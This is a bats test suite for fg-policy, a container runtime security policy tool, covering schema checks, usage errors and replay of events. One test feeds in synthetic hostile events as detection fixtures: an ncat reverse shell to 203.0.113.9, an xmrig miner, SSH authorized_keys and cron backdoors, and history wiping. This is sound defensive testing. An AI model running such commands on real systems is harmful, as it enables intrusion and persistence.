#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# fg-policy: what it says of policies, and what policies say of events.

bats_require_minimum_version 1.5.0

setup() {
	cd "$BATS_TEST_DIRNAME/../.." || exit 1
	PATH=${FG_BIN:-$PWD/build/bin}:$PATH
	examples=tests/doc/examples
	tmp=$BATS_TEST_TMPDIR
}

# event NAME [MEMBERS]: one line; MEMBERS are of a jq object.
event() {
	jq -nc --arg name "$1" '{type: "event", v: 1, name: $name} +
		{boot: "00", container: {name: "web", image: "nginx:1"}}
		* ('"${2-null}"' // {})'
}

# exec_of PATH [WORD ...]
exec_of() {
	event process.exec "$(printf '%s\n' "$@" | jq -Rnc '[inputs] |
		{process: {pid: 9, exe: .[0], args: .}}')"
}

# rules_of POLICY: the ids of the rules that the events of standard input meet.
rules_of() {
	fg-policy --replay "$1" | jq -r '.rule.id // "-"'
}

wrap() {
	jq -c '{type: "policy", v: 1, kind: "runtime", version: 1, policy: .}' \
		"$@"
}

@test "the sample policies have nothing to complain of, and fit the schema" {
	local file
	for file in share/policy/*.json $examples/*policy.json; do
		run --separate-stderr fg-policy --check "$file"
		echo "$file: $output $stderr"
		[[ $status -eq 0 && -z $output && -z $stderr ]]
		wrap "$file" | tests/doc/validate.py
		wrap "$file" | fg-policy --check -
	done
}

@test "the schema refuses what the reader refuses" {
	local change
	while read -r change; do
		jq "$change" share/policy/strict.json >"$tmp/p.json"
		run --separate-stderr fg-policy --check "$tmp/p.json"
		echo "$change: $output"
		[[ $status -eq 1 ]]
		tests/doc/validate.py <<<"$output"
		jq -es 'any(.severity == "error")' <<<"$output"
		run tests/doc/validate.py < <(wrap "$tmp/p.json")
		[[ $status -eq 1 ]]
	done <<-'end'
	.rules[0].processes.effect = "ban"
	.rules[0].processes.blacklist = [1]
	.rules[0].processes.rules = [{"uid": -1}]
	.rules[0].processes.rules = [{"sha256": "00"}]
	.rules[0].network.internalPorts = [65536]
	.rules[0].network.rules = [{"direction": "up"}]
	.rules[0].filesystem.rules = [{"ops": "eat"}]
	.rules[0].detections.mount = "never"
	.rules[0].tier = "half"
	.rules = {}
	end
}

@test "findings: severity, place, and exit status" {
	echo '{"wildFireAnalysis": "alert"}' >"$tmp/p.json"
	run --separate-stderr fg-policy --check "$tmp/p.json"
	[[ $status -eq 0 ]]
	tests/doc/validate.py <<<"$output"
	jq -e '.severity == "note" and .line == 1 and .column == 2 and
		.pointer == "/wildFireAnalysis"' <<<"$output"
	run --separate-stderr fg-policy --check - <<-'end'
	{"processes": {"effect": "alert",
	  "blackList": []}}
	end
	[[ $status -eq 1 && -z $stderr ]]
	jq -e '.severity == "warning" and .line == 2 and .column == 3 and
		.file == "standard input"' <<<"$output"
	run --separate-stderr fg-policy --check - <<<'{"a": "b"'
	[[ $status -eq 100 && -z $output ]]
	[[ $stderr == "fg-policy: standard input:2:1: "* ]]
}

@test "usage errors" {
	local args
	while read -r args; do
		# shellcheck disable=SC2086 # they are words
		run --separate-stderr fg-policy $args </dev/null
		echo "$args: $status $stderr"
		[[ $status -eq 2 && -z $output ]]
	done <<-'end'

	--container=x
	--check=a --replay=b
	--check=a b
	--replay=a b c
	end
}

@test "files that cannot be read, and policies that are too large" {
	local size
	run --separate-stderr fg-policy --check "$tmp/none"
	[[ $status -eq 100 && $stderr == *none* ]]
	run --separate-stderr fg-policy --check "$tmp"
	[[ $status -eq 100 ]]
	for size in 1048577 3000000; do
		head -c $size /dev/zero | tr '\0' ' ' >"$tmp/large"
		run --separate-stderr fg-policy --check "$tmp/large"
		[[ $status -eq 100 ]]
		[[ $stderr == *"larger than 1048576 bytes"* ]]
	done
	run --separate-stderr fg-policy --replay share/policy/web.json "$tmp/no"
	[[ $status -eq 100 && -z $output ]]
	run --separate-stderr fg-policy --replay - </dev/null
	[[ $status -eq 100 ]]
}

@test "an invalid policy replays nothing, and says where" {
	echo '{"dns": {"effect": "no"}}' >"$tmp/p.json"
	run --separate-stderr fg-policy --replay "$tmp/p.json" \
		$examples/shop.ndjson
	[[ $status -eq 100 && -z $output ]]
	[[ $stderr == "fg-policy: $tmp/p.json:1:20: /dns/effect: "* ]]
}

@test "a replay gives every event its decision, and the same each time" {
	fg-policy --replay $examples/policy.json $examples/shop.ndjson \
		>"$tmp/once"
	[[ $(wc -l <"$tmp/once") -eq $(wc -l <$examples/shop.ndjson) ]]
	tests/doc/validate.py <"$tmp/once"
	fg-policy --replay $examples/policy.json <"$tmp/once" >"$tmp/twice"
	cmp "$tmp/once" "$tmp/twice"
	# Whatever was decided before is gone.
	fg-policy --replay $examples/mail.policy.json <"$tmp/once" >"$tmp/other"
	diff <(jq -r '.rule.id // "-"' "$tmp/other") - <<-'end'
	-
	custom-rule
	-
	-
	-
	end
}

@test "other records, and events that are not judged, pass as they are" {
	local lines='{"type":"request","v":1,"b":1,"a":2}
{"type":"event","v":1,"name":"exit","number":3,"x":1}'
	diff <(echo "$lines") \
		<(fg-policy --replay share/policy/strict.json <<<"$lines")
}

@test "what is no event is an error with its line" {
	{ event net.dns; echo '{"type":"event","v":1,"name":"nothing"}'; } \
		>"$tmp/events"
	run --separate-stderr fg-policy --replay share/policy/web.json \
		"$tmp/events"
	[[ $status -eq 100 && ${#lines[@]} -eq 1 ]]
	[[ $stderr == "fg-policy: $tmp/events:2: name: "* ]]
	run --separate-stderr fg-policy --replay share/policy/web.json \
		<<<'{"type":'
	[[ $status -eq 100 && $stderr == *"standard input:1:1:"* ]]
}

@test "each container gets its rule, unless the options say which" {
	local nc
	nc=$(exec_of /usr/bin/nc -z db 5432)
	run --separate-stderr fg-policy --replay $examples/two.policy.json <<<"$nc"
	[[ $(jq -r .rule.name <<<"$output") == others ]]
	run --separate-stderr fg-policy --replay $examples/two.policy.json \
		--image=registry.example.com/shop/api:7 <<<"$nc"
	[[ $(jq -r .rule.name <<<"$output") == api ]]
	jq '.rules[0].collections = [{"containers": ["db"]}] |
		.rules[1].collections = [{"appIDs": ["shop:*"]}]' \
		$examples/two.policy.json >"$tmp/p.json"
	[[ $(rules_of "$tmp/p.json" <<<"$nc") == - ]]
	[[ $(fg-policy --replay "$tmp/p.json" --container=db <<<"$nc" |
		jq -r .rule.name) == api ]]
	[[ $(fg-policy --replay "$tmp/p.json" --app-id=shop:1 <<<"$nc" |
		jq -r .rule.name) == others ]]
}

@test "each start of a container is remembered for itself" {
	local boot connect
	connect=$(event net.connect '{process: {exe: "/a"},
		net: {proto: "tcp", addr: "169.254.170.2", port: 80}}')
	for boot in 01 01 02; do
		jq -c --arg boot $boot '.boot = $boot' <<<"$connect"
	done >"$tmp/events"
	diff <(rules_of share/policy/default.json <"$tmp/events") - <<-'end'
	metadata-access
	-
	metadata-access
	end
}

@test "the default policy is quiet about ordinary work" {
	{
		exec_of /usr/bin/make -j2
		exec_of /usr/bin/dash sh -c 'gcc -c x.c'
		exec_of /usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet x.c
		exec_of /usr/sbin/nginx -g 'daemon off;'
		exec_of /usr/lib/postgresql/15/bin/postgres -D /var/lib/pg
		exec_of /usr/bin/apt-get download hello
		exec_of /usr/bin/dpkg --print-foreign-architectures
		exec_of /usr/bin/curl -fsS http://127.0.0.1/health
		exec_of /usr/bin/bash -c '</dev/tcp/db/5432'
		event file.create '{file: {path: "/var/log/nginx/access.log"}}'
		event file.open '{file: {path: "/var/log/nginx/error.log"}}'
		event file.create '{file: {path: "/dev/shm/PostgreSQL.1"}}'
		event file.chmod '{file: {path: "/run/postgresql", mode: "03775"}}'
		event file.chmod '{file: {path: "/src/a.out", mode: "0755"}}'
		event file.rename '{file: {path: "/src/x.tmp", path2: "/src/x"}}'
		event file.unlink '{file: {path: "/var/lib/apt/lists/lock"}}'
		event net.connect '{net: {proto: "tcp", addr: "10.0.0.9", port: 5432}}'
		event net.connect '{net: {proto: "tcp", addr: "151.101.2.132", port: 80}}'
		event net.listen '{net: {proto: "tcp", addr: "0.0.0.0", port: 80}}'
		event net.dns '{net: {domain: "packages.example.org"}}'
		event net.socket '{number: 16, syscall: {name: "socket", flags: 3}}'
	} >"$tmp/events"
	[[ $(wc -l <"$tmp/events") -eq 21 ]]
	run rules_of share/policy/default.json <"$tmp/events"
	echo "$output"
	[[ $(sort -u <<<"$output") == - ]]
}

@test "the default policy tells of what is not ordinary" {
	{
		exec_of /usr/bin/xmrig -o pool:3333
		exec_of /usr/bin/ncat -e /bin/sh 203.0.113.9 4444
		exec_of /usr/bin/apt-get install nmap
		exec_of /usr/bin/nmap 10.0.0.0/24
		exec_of /usr/bin/kubectl get secrets
		event process.exec '{process: {exe: "/tmp/x", facts: ["modified"]}}'
		event process.exec '{process: {exe: "/memfd:x", facts: ["memfd"]}}'
		event file.create '{file: {path: "/root/.ssh/authorized_keys"}}'
		event file.create '{file: {path: "/etc/cron.d/x"}}'
		event file.unlink '{file: {path: "/root/.bash_history"}}'
		event file.chmod '{file: {path: "/tmp/x", mode: "04755"}}'
		event net.connect '{net: {addr: "169.254.169.254", port: 80}}'
		event net.socket '{number: 17, syscall: {name: "socket", flags: 3}}'
		event net.dns '{net: {domain: "pool.minexmr.com"}}'
		event kernel.ptrace '{target: 77}'
		event kernel.module
		event kernel.mount
	} >"$tmp/events"
	diff <(rules_of share/policy/default.json <"$tmp/events") - <<-'end'
	crypto-miner
	reverse-shell
	package-manager
	network-tool
	lateral-movement
	modified-process
	fileless-process
	backdoor-ssh
	backdoor-cron
	log-clearing
	setuid-file
	metadata-access
	raw-socket
	mining-pool
	ptrace
	kernel-module
	mount
	end
	# It refuses nothing.
	[[ $(fg-policy --replay share/policy/default.json <"$tmp/events" |
		jq -r .action | sort -u) == alert ]]
}

@test "the other sample policies do what they are for" {
	# web: no tools, no foreign ports, nothing in memory.
	{
		exec_of /usr/bin/curl http://x
		event net.listen '{net: {proto: "tcp", addr: "0.0.0.0", port: 4444}}'
		event net.listen '{net: {proto: "tcp", addr: "0.0.0.0", port: 443}}'
		event process.exec '{process: {exe: "/x", facts: ["memfd"]}}'
	} >"$tmp/events"
	[[ $(fg-policy --replay share/policy/web.json <"$tmp/events" |
		jq -r .action | paste -sd ' ') == "prevent prevent allow prevent" ]]
	# strict: what is not listed.
	{
		exec_of /usr/sbin/nginx
		exec_of /usr/bin/id
		event file.create '{file: {path: "/run/nginx.pid"}}'
		event file.create '{file: {path: "/srv/x"}}'
		event net.dns '{net: {domain: "x.example.com"}}'
		event process.exec '{process: {exe: "/x", facts: ["memfd"]}}'
	} >"$tmp/events"
	[[ $(fg-policy --replay share/policy/strict.json <"$tmp/events" |
		jq -r .action | paste -sd ' ') == \
		"allow prevent allow prevent prevent block" ]]
	# batch: builds, installs, runs what it built; but does not mine.
	{
		exec_of /usr/bin/apt-get install gcc
		event process.exec '{process: {exe: "/src/t", facts: ["modified"]}}'
		exec_of /src/xmrig
	} >"$tmp/events"
	[[ $(fg-policy --replay share/policy/batch.json <"$tmp/events" |
		jq -r .action | paste -sd ' ') == "allow allow prevent" ]]
}

@test "output that cannot be written is no success" {
	run bash -c 'fg-policy --replay share/policy/web.json \
		tests/doc/examples/shop.ndjson >/dev/full'
	[[ $status -eq 100 ]]
	echo '{"x": 1}' >"$tmp/p.json"
	run bash -c 'fg-policy --check "$1" >/dev/full' - "$tmp/p.json"
	[[ $status -eq 100 ]]
}

# The page is where a reader of an event looks for its rule.
@test "fg-policy(5) has an entry for every detection, as the table has it" {
	local html
	html=$(mandoc -T html man/fg-policy.5)
	awk '
		/\.id = "/ { if (id) show(); id = quoted(); severity = attack = "" }
		/\.severity = / {
			severity = tolower($0)
			gsub(/.*event_|,.*/, "", severity)
		}
		/\.attack = / {
			attack = $0
			gsub(/.*\{|\}.*|"/, "", attack)
			attack = "; " attack
		}
		END { show() }
		function quoted() { split($0, part, "\""); return part[2] }
		function show() { print id, severity attack }
	' lib/policy/policy_detection.c >"$tmp/table"
	awk '
		/^\.Sh / { there = $2 == "DETECTIONS" }
		there && /^\.It Cm / { id = $3 }
		there && /^\.Pq (low|medium|high|critical)/ {
			print id, substr($0, 5)
		}
	' man/fg-policy.5 >"$tmp/page"
	diff "$tmp/table" "$tmp/page"
	[[ $(wc -l <"$tmp/table") -gt 50 ]]
	while read -r id _; do
		[[ $html == *"id=\"$id\""* ]]
		jq -e --arg id "$id" '."$defs".rule.properties.detections
			.properties[$id]' share/schema/policy.json >"$tmp/x"
	done <"$tmp/table"
}
